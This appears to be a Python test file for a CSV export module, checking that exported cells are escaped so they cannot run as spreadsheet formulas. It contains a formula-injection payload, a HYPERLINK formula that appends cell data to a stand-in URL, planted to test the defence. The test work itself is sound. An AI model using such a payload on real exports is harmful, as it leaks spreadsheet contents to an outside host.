"""The tables of a pack: no cell is a formula, whatever was typed, and nothing else of it is lost."""

import csv
import io
from dataclasses import replace
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.export import pack_tables
from engine.export.stored import StoredCase
from tests.engine.export.packs import made
from tests.engine.export.test_redacted import with_markers

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("http://example.org?"&A1;"Zqxmarker")'
CSV = ("steps.csv", "answers.csv", "clocks.csv", "duties.csv")

typed = st.one_of(
    st.text(), st.builds(str.__add__, st.sampled_from(BEGINNINGS), st.text()), st.text(alphabet="=+-@\t\r\n,\"' 1")
)


def cells(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def formulas(table: bytes) -> list[str]:
    return [cell for row in cells(table) for cell in row if cell.startswith(BEGINNINGS)]


@given(rows=st.lists(st.lists(typed, min_size=3, max_size=3), max_size=5))
def test_no_cell_is_a_formula_and_its_text_is_kept(rows: list[list[str]]) -> None:
    table = pack_tables.table(("a", "b", "c"), rows)
    assert formulas(table) == []
    for row, texts in zip(cells(table)[1:], rows, strict=True):
        for cell, text in zip(row, (text.replace("\0", "\ufffd") for text in texts), strict=True):
            assert cell in (text, f"'{text}")


@pytest.mark.parametrize("value", [-3, "-3 working days", "@home", "=1+1", "\t=1"])
def test_what_begins_like_a_formula_has_an_apostrophe_before_it(value: object) -> None:
    assert pack_tables.cell(value) == f"'{value}"


@pytest.mark.parametrize(("value", "said"), [(None, ""), (0, "0"), ("plain", "plain"), ("a=b", "a=b")])
def test_everything_else_stands_as_it_is(value: object, said: str) -> None:
    assert pack_tables.cell(value) == said


@pytest.mark.parametrize("redacted", [False, True])
def test_no_cell_of_a_pack_is_a_formula(long_case: tuple[StoredCase, datetime], redacted: bool) -> None:
    stored, at = long_case
    planted = with_markers(replace(stored, acts=stored.acts[:10]), FORMULA)
    pack = made(replace(planted, child=FORMULA), at, redacted=redacted)
    for name in CSV:
        assert formulas(pack.files[name]) == []
    assert ("HYPERLINK" in pack.text("answers.csv")) is not redacted


def test_a_table_that_lets_a_formula_through_is_found(
    long_case: tuple[StoredCase, datetime], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The planted fault."""
    stored, at = long_case
    monkeypatch.setattr(pack_tables, "cell", str)
    pack = made(with_markers(replace(stored, acts=stored.acts[:10]), FORMULA), at)
    assert all(formulas(pack.files[name]) for name in ("answers.csv", "clocks.csv"))


def test_each_row_is_as_long_as_its_header(long_case: tuple[StoredCase, datetime]) -> None:
    stored, at = long_case
    pack = made(stored, at)
    for name in CSV:
        header, *rows = cells(pack.files[name])
        assert {len(row) for row in rows} == {len(header)}
    assert len(cells(pack.files["steps.csv"])) == len(stored.entries) + 1
    assert len(cells(pack.files["clocks.csv"])) == len(stored.clocks) + 1


def test_each_delivered_duty_has_its_rows_and_a_redacted_reason_is_only_a_length(
    long_case: tuple[StoredCase, datetime],
) -> None:
    stored, at = long_case
    delivered = {one.id for one in stored.newest.duties.values() if one.delivered == "now"}
    for redacted in (False, True):
        header, *rows = cells(made(stored, at, redacted=redacted).files["duties.csv"])
        told = [dict(zip(header, row, strict=True)) for row in rows]
        assert {row["duty"] for row in told} == delivered
        assert all(row["entry"] == "" for row in told if row["state"] == "did not arise")
        reasons = {row["reason"] for row in told} - {""}
        assert reasons
        assert all(one.startswith("given, ") for one in reasons) is redacted
